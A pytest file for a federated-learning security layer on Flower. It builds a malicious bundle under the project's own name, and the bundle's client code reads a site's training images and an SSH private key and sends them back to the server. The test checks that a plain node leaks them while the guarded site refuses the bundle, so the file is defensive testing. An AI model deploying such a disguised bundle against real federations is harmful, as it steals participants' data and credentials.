"""A bundle with our name and foreign code: it reads a site's data and key, unless the site decides.

On a real SuperLink with TLS and node authentication, with two nodes: one started as plain Flower,
where the attack works, and one with `efface site run`, where nothing of the bundle runs.
"""

import json
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from flwr.cli.build import build_fab_from_disk
from sklearn.datasets import load_digits

from client.operator.bundles import Bundle
from client.operator.folder import bundles_of
from server.cli.site_run import installed_bundle
from server.nodes.database import purge
from server.nodes.engines import superlink
from tests.superlink_harness import (
    RunningFederation,
    make_federation,
    running_federation,
    wait_until,
)

SITE, PLAIN = "site-a", "site-b"

HOSTILE_CLIENT = """
import os
from pathlib import Path
import numpy as np
from flwr.app import Array, ArrayRecord, Message, RecordDict
from flwr.clientapp import ClientApp

CANARIES = {canaries!r}
Path(CANARIES, f"ran-{{os.getpid()}}").write_bytes(Path("/proc/self/cmdline").read_bytes())
app = ClientApp()

@app.query()
def steal(message, context):
    config = context.node_config
    data = np.load(config["data"].removeprefix("npz:"))
    key = np.frombuffer(Path({keys!r}, config["name"]).read_bytes(), np.uint8)
    found = {{"images": Array(data["train_images"]), "key": Array(key)}}
    return Message(RecordDict({{"arrays": ArrayRecord(found)}}), reply_to=message)
"""

HOSTILE_SERVER = """
import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    names = {node.node_id: node.name for node in grid.get_nodes()}
    asked = [
        Message(RecordDict({"config": ConfigRecord({"x": 1})}), dst_node_id=n, message_type="query")
        for n in names
    ]
    told = {}
    for reply in grid.send_and_receive(asked, timeout=300):
        name = names[reply.metadata.src_node_id]
        if reply.has_error():
            told[name] = {"code": reply.error.code, "reason": reply.error.reason}
        else:
            arrays = reply.content["arrays"]
            told[name] = {
                "images": arrays["images"].numpy().shape,
                "key": arrays["key"].numpy().tobytes().decode(),
            }
    Path(context.run_config["home"]).write_text(json.dumps(told))
"""


@pytest.fixture
def federation(tmp_path: Path) -> Iterator[RunningFederation]:
    digits = load_digits()
    images = (digits.images * 15).astype(np.uint8)
    np.savez(tmp_path / "site.npz", train_images=images[:300], train_labels=digits.target[:300])
    with running_federation(tmp_path, []) as running:
        for name in (SITE, PLAIN):
            make_federation(running.folder, "node-key", name)
        running.register(SITE, PLAIN)
        config = {"data": f"npz:{tmp_path / 'site.npz'}"}
        running.start_site(SITE, config, policy={"updates": '"single"'})
        running.start_supernode(PLAIN, {**config, "name": PLAIN})
        yield running
    assert not running.left_over()


def hostile_bundle(folder: Path, canaries: Path, keys: Path) -> Path:
    """Return an app that differs from ours in what it does alone."""
    app = superlink.stage_app(folder)
    canaries.mkdir()
    (app / "client" / "app.py").write_text(
        HOSTILE_CLIENT.format(canaries=str(canaries), keys=str(keys))
    )
    (app / "client" / "__init__.py").write_text("import client.app\n")  # at the first import
    (app / "server" / "app.py").write_text(HOSTILE_SERVER)
    project = tomllib.loads((app / "pyproject.toml").read_text())
    assert (project["project"]["name"], project["project"]["version"]) == ("efface", "0.1.0")
    return app


@pytest.mark.processes
def test_a_foreign_bundle_is_refused_before_a_line_of_it_runs(
    federation: RunningFederation, tmp_path: Path
) -> None:
    canaries, told = tmp_path / "canaries", tmp_path / "told.json"
    app = hostile_bundle(tmp_path / "app", canaries, federation.folder / "keys")
    folder = federation.folder / "sites" / SITE
    wait_until(lambda: federation.online() >= {SITE, PLAIN}, federation, limit=_in(300))
    mine = installed_bundle()
    bundles_of(folder).allow(mine.hash, "the installed one", mine)

    # 1. The attack, on both.
    run = superlink.submit(
        app, federation.connection, {"home": str(told)}, flwr_home=federation.home
    )
    superlink.wait(run, federation.connection, deadline=600, flwr_home=federation.home)

    found = json.loads(told.read_text())
    assert found[PLAIN]["images"] == [300, 8, 8]
    assert "BEGIN OPENSSH PRIVATE KEY" in found[PLAIN]["key"]
    # It does run where it may (the SuperLink's own process loads the bundle, too), and not here.
    ran = [path.read_bytes().split(b"\0") for path in canaries.iterdir()]
    assert any(words[1].endswith(b"/flwr-clientapp") for words in ran)
    assert not any(b"client.operator" in word for words in ran for word in words)
    assert not any("gate" in str(words) for words in ran)
    bundle = Bundle(build_fab_from_disk(app))
    assert set(found[SITE]) == {"code", "reason"}
    assert bundle.hash in found[SITE]["reason"]
    assert found[SITE]["reason"].startswith("[foreign-bundle] ")
    assert bundle.hash in federation.log(SITE)

    # 2. The operator can look at what came.
    assert bundles_of(folder).waiting() == [bundle.hash]
    difference = bundles_of(folder).difference(bundle.hash)
    assert difference.old == mine.hash
    assert "+def steal(message, context):" in difference.code

    # 3. What was exchanged stays in the SuperLink's files until it is purged, while it runs.
    database = federation.folder / "state.db"
    secret = (federation.folder / "keys" / PLAIN).read_bytes()
    assert any(secret in file.read_bytes() for file in database.parent.glob("state.db*"))
    purge(database)
    assert not any(secret in file.read_bytes() for file in database.parent.glob("state.db*"))


def _in(seconds: float) -> float:
    return time.monotonic() + seconds
